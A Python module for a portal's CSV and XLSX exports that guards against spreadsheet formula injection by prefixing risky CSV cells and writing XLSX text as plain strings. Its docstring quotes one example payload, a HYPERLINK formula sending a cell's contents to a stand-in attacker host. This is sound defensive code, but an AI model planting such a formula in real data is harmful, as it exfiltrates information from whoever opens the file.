"""Cells of every CSV and XLSX the portal writes: no formula ever leaves it (CWE-1236).

A household's contact or a unit's name typed as ``=HYPERLINK("http://evil.example/x?"&A2,
"点击查看")`` must reach the person who opens an export as that text, never as a live
formula. One rule for every writer (grids.io.exporting, governance.reports.exports, through
the writers below: ``csv_stream`` and ``XlsxBook``):
- XLSX: every text cell is a string cell (``data_type 's'``, written by ``write_string``)
  with its text unchanged, never a formula;
- CSV: text starting with ``= + - @``, a tab or a carriage return gets a leading ``'``
  (what spreadsheet programs read as "this is text"); numbers, also written as text
  (``-3``, ``93.72``, ``-1.5%``), are never changed.
Imports keep such values as the text they are (grids.io.reader reads every cell as text).
"""

import re

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# A number as a report prints it: a sign, digits, decimals, an exponent, a percent sign.
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")


def csv_cell(value):
    """One CSV cell: text a spreadsheet would run as a formula gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_row(values) -> list:
    return [csv_cell(v) for v in values]


# --- writers: one CSV stream, one XLSX writer, for every export ---------------------------------

BOM = "\ufeff"  # Excel opens a CSV as UTF-8 only with it


class _Echo:
    def write(self, value):
        return value


def csv_stream(lines, *, batch: int = 500, bom: bool = True):
    """The bytes of a CSV (UTF-8, with a BOM unless ``bom`` is false: a continuation) of ``lines`` — each a list of cells, or None
    for an empty line — with the formula rule above applied to every cell. Lines are
    encoded ``batch`` at a time: one chunk per line would cost more in the server's writes
    than the formatting of the line."""
    import csv

    writer = csv.writer(_Echo())
    write, cell = writer.writerow, csv_cell
    chunk = [BOM] if bom else []
    for line in lines:
        chunk.append(write([] if line is None else [cell(v) for v in line]))
        if len(chunk) >= batch:
            yield "".join(chunk).encode("utf-8")
            chunk = []
    if chunk:
        yield "".join(chunk).encode("utf-8")


def sheet_max_rows() -> int:
    """Data rows per XLSX sheet before the next sheet continues it (a sheet holds at most
    1,048,576 rows; settings.EXPORT_XLSX_SHEET_MAX_ROWS, 1,000,000)."""
    from django.conf import settings

    return min(int(getattr(settings, "EXPORT_XLSX_SHEET_MAX_ROWS", 1_000_000)), 1_048_000)


class XlsxBook:
    """An XLSX written row by row by XlsxWriter in constant-memory mode — each row goes to a
    temporary file as the next begins, so memory stays flat — for the exports as long as the
    appeals they list (openpyxl's write-only mode writes an XML element per cell: about a
    fifth of the speed, below the export job's 10,000 rows/s). Text is always a string cell
    (``write_string``), never a formula. Usage: ``sheet = book.sheet(…)``, ``sheet.append``,
    ``book.close()`` (zips the file into ``out``)."""

    def __init__(self, out):
        import xlsxwriter

        self.book = xlsxwriter.Workbook(out, {
            "constant_memory": True, "strings_to_formulas": False, "strings_to_numbers": False,
            "strings_to_urls": False,
        })
        self._formats: dict = {}

    def format(self, **spec):
        key = tuple(sorted(spec.items()))
        if key not in self._formats:
            self._formats[key] = self.book.add_format(spec) if spec else None
        return self._formats[key]

    def sheet(self, title: str, *, title_line: str | None, header: list[str], widths: list[float],
              number_formats: list[str | None], max_rows: int | None = None) -> "XlsxSheet":
        return XlsxSheet(self, title, title_line=title_line, header=header, widths=widths,
                         number_formats=number_formats, max_rows=max_rows)

    def close(self) -> None:
        self.book.close()


class XlsxSheet:
    """One table of an ``XlsxBook``: a title line (unless None) and a bold header first, frozen below them;
    past ``max_rows`` data rows (``sheet_max_rows``) the next sheet "title (2)" continues it
    with the same head."""

    def __init__(self, book: XlsxBook, title: str, *, title_line: str | None, header: list[str], widths: list[float],
                 number_formats: list[str | None], max_rows: int | None):
        self.book, self.title = book, title[:31].replace("/", "-")
        self.title_line, self.header, self.widths = title_line, header, widths
        self.formats = [book.format(num_format=f) if f else None for f in number_formats]
        self.max_rows = max_rows or sheet_max_rows()
        self.sheets = 0
        self._next()

    def _next(self) -> None:
        self.sheets += 1
        name = self.title if self.sheets == 1 else f"{self.title[:25]} ({self.sheets})"
        sheet = self.sheet = self.book.book.add_worksheet(name)
        for index, width in enumerate(self.widths):
            sheet.set_column(index, index, width, self.formats[index])
        row = 0
        if self.title_line is not None:
            sheet.write_string(0, 0, self.title_line, self.book.format(bold=True, font_size=13))
            row = 1
        bold = self.book.format(bold=True)
        for index, label in enumerate(self.header):
            sheet.write_string(row, index, str(label), bold)
        sheet.freeze_panes(row + 1, 0)
        self.row = self.first = row + 1  # the next row's index

    def append(self, values) -> None:
        """One row of values (None or "" leaves the cell empty), each column in its format."""
        if self.row - self.first >= self.max_rows:
            self._next()
        sheet, row, formats = self.sheet, self.row, self.formats
        for index, value in enumerate(values):
            if value is None or value == "":
                continue
            if isinstance(value, str):
                sheet.write_string(row, index, value, formats[index])
            else:
                sheet.write_number(row, index, value, formats[index])
        self.row = row + 1
